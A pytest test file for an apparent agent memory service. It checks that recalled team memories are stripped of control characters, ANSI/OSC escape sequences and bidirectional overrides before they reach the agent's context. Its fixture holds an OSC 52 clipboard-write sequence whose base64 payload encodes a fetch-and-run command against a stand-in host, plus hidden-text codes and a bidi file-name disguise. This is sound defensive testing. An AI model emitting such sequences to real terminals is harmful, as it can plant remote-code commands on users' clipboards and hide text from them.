"""A recall line carries no control characters: a prompt needs no ESC, and the context is printed as
it is (``nylon context``), so a team member's memory holding an ESC sequence (OSC 52 clipboard
write, cursor moves, hidden text) reached the terminal of whoever read the context."""

from __future__ import annotations

import pytest

from assets.context import recall_line, recall_text
from memory.cache import get_cache

from .helpers import weave

pytestmark = pytest.mark.django_db

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
EVIL = f"deploy freeze note {OSC52}\x1b[8mhidden\x1b[0m\r\n\x9b2J\x08\x7f until Friday"
CONTROLS = {chr(c) for c in [*range(0x00, 0x20), *range(0x7F, 0xA0)]}


@pytest.fixture(autouse=True)
def fresh_cache():
    get_cache().drop()
    yield
    get_cache().drop()


def _controls(text: str) -> list[str]:
    return sorted({hex(ord(c)) for c in text if c in CONTROLS})


def test_recall_text_and_line_drop_control_characters():
    assert recall_text(EVIL) == "deploy freeze note ]52;c;Y3VybCBldmlsLnNoIHwgc2g=[8mhidden[0m 2J until Friday"
    line = recall_line({"node_id": 9, "text": EVIL, "speaker": f"bob{OSC52}", "occurred_at": "2026-11-26T08:00:00Z"})
    assert not _controls(line), line
    assert line.startswith("- [2026-11-26 · bob)52;c;Y3VybCBldmlsLnNoIHwgc2g=] [memory 9] deploy freeze note ")


def test_a_members_escape_sequences_do_not_reach_the_agents_context(world, client_for):
    a = world["a"]
    nid = weave(client_for(a.member), EVIL, visibility="team", team_id=a.team.id, speaker=f"carol{OSC52}")
    r = client_for(a.key).post("/api/v1/context", {"query": "deploy freeze note"}, format="json")
    assert r.status_code == 200, r.content
    body = r.json()
    assert [x["node_id"] for x in body["recall"]] == [nid]
    assert f"[memory {nid}] deploy freeze note ]52;c;" in body["context"] and "hidden" in body["context"]
    assert not _controls(body["context"].replace("\n", "")), body["context"]
    assert not _controls(body["dynamic"].replace("\n", ""))
    assert "\x1b" in body["recall"][0]["text"]  # the item is the stored text, as data in JSON


def test_recall_text_drops_bidirectional_overrides():
    assert recall_text("run \u202etxt.exe\u202c now \u2067x\u2069 שלום") == "run txt.exe now x שלום"
